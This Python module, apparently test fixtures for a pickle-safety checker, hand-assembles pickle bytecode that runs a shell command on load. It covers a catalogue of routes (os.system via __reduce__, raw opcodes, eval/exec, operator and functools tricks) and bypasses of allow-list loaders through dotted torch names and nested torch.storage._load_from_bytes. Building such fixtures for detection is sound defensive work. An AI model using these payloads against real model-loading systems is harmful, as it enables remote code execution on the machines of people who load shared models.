"""Pickles that run something under Python's own pickle, written code by code."""

from __future__ import annotations

import os
import pickle
from collections.abc import Callable
from typing import Any

RAN: list[str] = []


class New:
    """Runs something when it is made."""

    def __new__(cls, *arguments: Any, **named: Any) -> New:
        RAN.append("new")
        return super().__new__(cls)


class Stated:
    """Runs something when it is given its state."""

    def __setstate__(self, state: Any) -> None:
        RAN.append("state")


class Growing(list[Any]):
    """Runs something when it grows."""

    def append(self, value: Any) -> None:
        RAN.append("append")

    def extend(self, values: Any) -> None:
        RAN.append("extend")


class Kept(dict[Any, Any]):
    """Runs something when an entry is set."""

    def __setitem__(self, key: Any, value: Any) -> None:
        RAN.append("entry")


class Hashed:
    """Runs something when it is a key."""

    def __hash__(self) -> int:
        RAN.append("hash")
        return 1


class Members:
    """Runs something when a member is added."""

    def add(self, value: Any) -> None:
        RAN.append("add")


def text(value: str) -> bytes:
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def named(module: str, name: str) -> bytes:
    """STACK_GLOBAL, which follows dots in ``name``."""
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def program(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def by_reduce(protocol: int) -> Callable[[str], bytes]:
    class Evil:
        def __init__(self, command: str) -> None:
            self.command = command

        def __reduce__(self) -> Any:
            return os.system, (self.command,)

    return lambda command: pickle.dumps({"model": Evil(command)}, protocol=protocol)


OS = call(named("builtins", "__import__"), text("os"))
HERE = __name__
COMMANDS: dict[str, Callable[[str], bytes]] = {
    **{f"os.system, protocol {protocol}": by_reduce(protocol) for protocol in range(6)},
    "posix.system": lambda c: program(call(named("posix", "system"), text(c))),
    "os.popen": lambda c: program(call(named("os", "popen"), text(c))),
    "subprocess.getoutput": lambda c: program(call(named("subprocess", "getoutput"), text(c))),
    "GLOBAL": lambda c: b"cos\nsystem\n(S'" + c.encode() + b"'\ntR.",
    "INST": lambda c: b"(S'" + c.encode() + b"'\nios\nsystem\n.",
    "OBJ": lambda c: b"(cos\nsystem\nS'" + c.encode() + b"'\no.",
    "eval": lambda c: program(call(named("builtins", "eval"), text(f"__import__('os').system({c!r})"))),
    "exec": lambda c: program(call(named("builtins", "exec"), text(f"import os; os.system({c!r})"))),
    "getattr": lambda c: program(
        call(call(named("builtins", "getattr"), OS, text("system")), text(c)),
    ),
    "partial": lambda c: program(
        call(call(named("functools", "partial"), named("os", "system"), text(c))),
    ),
    "attrgetter": lambda c: program(
        call(call(call(named("operator", "attrgetter"), text("system")), OS), text(c)),
    ),
    "methodcaller": lambda c: program(
        call(call(named("operator", "methodcaller"), text("system"), text(c)), OS),
    ),
    "map": lambda c: program(
        call(
            named("builtins", "list"),
            call(named("builtins", "map"), named("os", "system"), b"]" + text(c) + b"a"),
        )
    ),
    "a dotted name": lambda c: program(call(named("torch", "serialization.os.system"), text(c))),
    "a dotted name of an allowed module": lambda c: program(
        call(named("torch._utils", "sys.modules.get"), text("os"))
        + b"0"
        + call(named("os", "system"), text(c))
    ),
    "code": lambda c: program(
        call(
            named("builtins", "eval"),
            call(
                named("builtins", "compile"), text(f"__import__('os').system({c!r})"), text("x"), text("eval")
            ),
        )
    ),
    "torch.storage._load_from_bytes": lambda c: program(
        call(named("torch.storage", "_load_from_bytes"), pickled_bytes(by_reduce(2)(c)))
    ),
    "torch.storage._load_from_bytes twice": lambda c: program(
        call(
            named("torch.storage", "_load_from_bytes"),
            pickled_bytes(
                program(call(named("torch.storage", "_load_from_bytes"), pickled_bytes(by_reduce(2)(c))))
            ),
        )
    ),
    "pickle.loads": lambda c: program(call(named("pickle", "loads"), pickled_bytes(by_reduce(2)(c)))),
    "an extension": lambda c: program(call(b"\x82\xf0", text(c))),
}
"""Programs that run a command, by how."""


def pickled_bytes(value: bytes) -> bytes:
    return b"B" + len(value).to_bytes(4, "little") + value


METHODS = {
    "NEWOBJ": named(HERE, "New") + b")\x81",
    "NEWOBJ_EX": named(HERE, "New") + b")}\x92",
    "REDUCE of copyreg.__newobj__": call(named("copyreg", "__newobj__"), named(HERE, "New")),
    "BUILD": named(HERE, "Stated") + b")\x81}b",
    "APPEND": named(HERE, "Growing") + b")\x81Na",
    "APPENDS": named(HERE, "Growing") + b")\x81(NNe",
    "SETITEM": named(HERE, "Kept") + b")\x81K\x01Ns",
    "SETITEMS": named(HERE, "Kept") + b")\x81(K\x01Nu",
    "a key": b"}" + named(HERE, "Hashed") + b")\x81Ns",
    "a member": b"\x8f(" + named(HERE, "Hashed") + b")\x81\x90",
    "a member of a frozen set": b"(" + named(HERE, "Hashed") + b")\x81\x91",
    "DICT": b"(" + named(HERE, "Hashed") + b")\x81Nd",
    "ADDITEMS": named(HERE, "Members") + b")\x81(K\x01\x90",
}
"""Programs that make an object or put something into one, by the code that does it."""
